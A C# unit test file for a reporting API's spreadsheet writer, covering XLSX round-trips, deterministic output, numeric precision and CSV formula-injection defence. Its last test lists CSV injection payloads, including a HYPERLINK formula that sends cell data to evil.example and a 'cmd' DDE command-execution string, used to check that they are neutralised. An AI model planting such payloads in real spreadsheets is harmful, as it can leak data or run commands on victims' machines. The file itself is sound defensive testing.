using System.IO.Compression;
using System.Text;
using Indicators.Api.Infrastructure.Http;
using Indicators.Api.Kernel.Spreadsheets;
using Microsoft.AspNetCore.Http;

namespace Indicators.Tests.Kernel.Spreadsheets;

/// <summary>
/// The shared sheet writer (for the reporting-status template): what it writes reads back unchanged through the
/// submission reader, numbers exactly, formula-like text kept as text in both formats (OWASP "CSV Injection").
/// </summary>
public sealed class SheetWriterTests
{
    private static readonly SheetColumn[] Columns =
    [
        new("indicator"), new("indicatorName", 40), new("orgUnit"), new("period"), new("unit"), new("value"),
        new("status", Choices: SubmissionColumns.Statuses), new("note", 40),
    ];

    private static readonly IReadOnlyList<SheetValue>[] Rows =
    [
        [SheetValue.Of("INDUSTRIAL_OUTPUT"), SheetValue.Of("Giá trị sản xuất công nghiệp"), SheetValue.Of("TQ-SD"), SheetValue.Of("2020-S1"),
         SheetValue.Of("tỷ đồng"), SheetValue.Of(1235.6m), SheetValue.Of("estimate"), SheetValue.Of("=HYPERLINK(\"http://x.example\",\"y\")")],
        [SheetValue.Of("GRDP_GROWTH"), SheetValue.Of("Tăng trưởng"), SheetValue.Of("TQ"), SheetValue.Of("2020"),
         SheetValue.Of("%"), SheetValue.Of(-5m), SheetValue.Empty, SheetValue.Of("-5 so với\u0001 kế hoạch")],
        [SheetValue.Of("RETAIL_SALES"), SheetValue.Of("Bán lẻ"), SheetValue.Of("TQ"), SheetValue.Of("2020"),
         SheetValue.Of("tỷ đồng"), SheetValue.Empty, SheetValue.Empty, SheetValue.Empty],
    ];

    [Fact]
    public void An_xlsx_reads_back_unchanged_with_exact_numbers_and_formula_like_text_kept_as_text()
    {
        var bytes = SheetWriter.Xlsx("Báo cáo: 6/2020 [SD]", Columns, Rows);
        var sheet = XlsxSheetReader.Read(bytes, SubmissionColumns.Read);

        Assert.Equal(new Dictionary<string, int> { ["indicator"] = 0, ["orgUnit"] = 2, ["period"] = 3, ["value"] = 5, ["status"] = 6, ["note"] = 7 }, sheet.Columns);
        Assert.Equal([2, 3, 4], sheet.Rows.Select(r => r.Number));
        Assert.Equal(new SheetCell(CellKind.Number, "1235.6", 1235.6m), sheet.Rows[0].Cells[3]);
        Assert.Equal(new SheetCell(CellKind.Text, "=HYPERLINK(\"http://x.example\",\"y\")"), sheet.Rows[0].Cells[5]);
        Assert.Equal(new SheetCell(CellKind.Number, "-5", -5m), sheet.Rows[1].Cells[3]);
        Assert.Equal("-5 so với_x0001_ kế hoạch", sheet.Rows[1].Cells[5]!.Value.Text);
        Assert.Null(sheet.Rows[2].Cells[3]);

        using var zip = new ZipArchive(new MemoryStream(bytes));
        var xml = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open()).ReadToEnd();
        var styles = new StreamReader(zip.GetEntry("xl/styles.xml")!.Open()).ReadToEnd();
        var workbook = new StreamReader(zip.GetEntry("xl/workbook.xml")!.Open()).ReadToEnd();
        // The status column offers its values as a list over the written rows; the header stays in view.
        Assert.Contains("<x:dataValidation type=\"list\"", xml);
        Assert.Contains("sqref=\"G2:G4\"", xml);
        Assert.Contains("<x:formula1>\"estimate,preliminary,official\"</x:formula1>", xml);
        Assert.Contains("state=\"frozen\"", xml);
        // The formula-like note is a string cell in the quote-prefix style (2), never a formula.
        Assert.DoesNotContain("<x:f>", xml);
        Assert.Contains("<x:c r=\"H2\" s=\"2\" t=\"inlineStr\">", xml);
        Assert.Contains("quotePrefix=\"1\"", styles);
        Assert.Contains("name=\"Báo cáo- 6-2020 -SD-\"", workbook);
    }

    [Fact]
    public void The_same_sheet_is_the_same_bytes_whenever_it_is_written_so_its_ETag_holds()
    {
        var first = SheetWriter.Xlsx("Báo cáo", Columns, Rows);
        using var zip = new ZipArchive(new MemoryStream(first));
        // Not the moment of writing (the zip's default) but one fixed time; relationship ids given, not random.
        Assert.All(zip.Entries, e => Assert.Equal(new DateTime(1980, 1, 1), e.LastWriteTime.DateTime));
        var rels = string.Concat(zip.Entries.Where(e => e.FullName.EndsWith(".rels", StringComparison.Ordinal)).Select(e => new StreamReader(e.Open()).ReadToEnd()));
        Assert.DoesNotMatch("Id=\"R[0-9a-f]{16}\"", rels);
        Assert.Equal(first, SheetWriter.Xlsx("Báo cáo", Columns, Rows));
    }

    [Theory]
    [InlineData("123456789012345", true)]
    [InlineData("-0.000000000000001", true)]
    [InlineData("1000000000000000000", true)]
    [InlineData("99999999999999.99", false)]
    [InlineData("99999999999999.9999", false)]
    [InlineData("-1234567890123.456", false)]
    public void A_figure_of_more_than_15_significant_digits_is_a_text_cell_read_back_exactly(string figure, bool numberCell)
    {
        var value = decimal.Parse(figure, System.Globalization.CultureInfo.InvariantCulture);
        Assert.Equal(numberCell, SheetWriter.FitsANumberCell(value));
        var bytes = SheetWriter.Xlsx("x", [new("value")], [[SheetValue.Of(value)]]);
        var sheet = XlsxSheetReader.Read(bytes, ["value"]);
        var cell = sheet.Rows.Single().Cells[0]!.Value;
        Assert.Equal(numberCell ? CellKind.Number : CellKind.Text, cell.Kind);
        Assert.True(SheetNumbers.TryRead(cell, false, out var read, out _));
        Assert.Equal(value, read);
    }

    [Fact]
    public async Task A_CSV_neutralises_formula_like_text_and_keeps_negative_numbers_numbers()
    {
        var context = new DefaultHttpContext();
        context.Response.Body = new MemoryStream();
        await SheetWriter.CsvResult(Columns, Rows, "template").ExecuteAsync(context);
        context.Response.Body.Position = 0;
        var text = new StreamReader(context.Response.Body, Encoding.UTF8).ReadToEnd();
        var rows = Support.CsvText.Parse(text);

        Assert.Equal(["indicator", "indicatorName", "orgUnit", "period", "unit", "value", "status", "note"], rows[0]);
        Assert.Equal("'=HYPERLINK(\"http://x.example\",\"y\")", rows[1][7]);
        Assert.Equal("-5", rows[2][5]);
        Assert.Equal("'-5 so với\u0001 kế hoạch", rows[2][7]);
        Assert.Equal("1235.6", rows[1][5]);
        Assert.Equal("text/csv; charset=utf-8", context.Response.ContentType);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\"")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\tx", "\"'\tx\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("\n=1", "\"'\n=1\"")]
    [InlineData("=1+2\";=1+2", "\"'=1+2\"\";=1+2\"")]
    [InlineData("a;=1+2", "\"a;=1+2\"")]
    [InlineData("-5", "-5")]
    [InlineData("-0.25", "-0.25")]
    [InlineData("-", "'-")]
    [InlineData("-5e3", "'-5e3")]
    [InlineData("Sơn Dương", "Sơn Dương")]
    [InlineData("2020-M01..M09", "2020-M01..M09")]
    public void A_CSV_field_is_quoted_and_neutralised_as_OWASP_advises(string value, string written) =>
        Assert.Equal(written, Csv.Field(value));
}
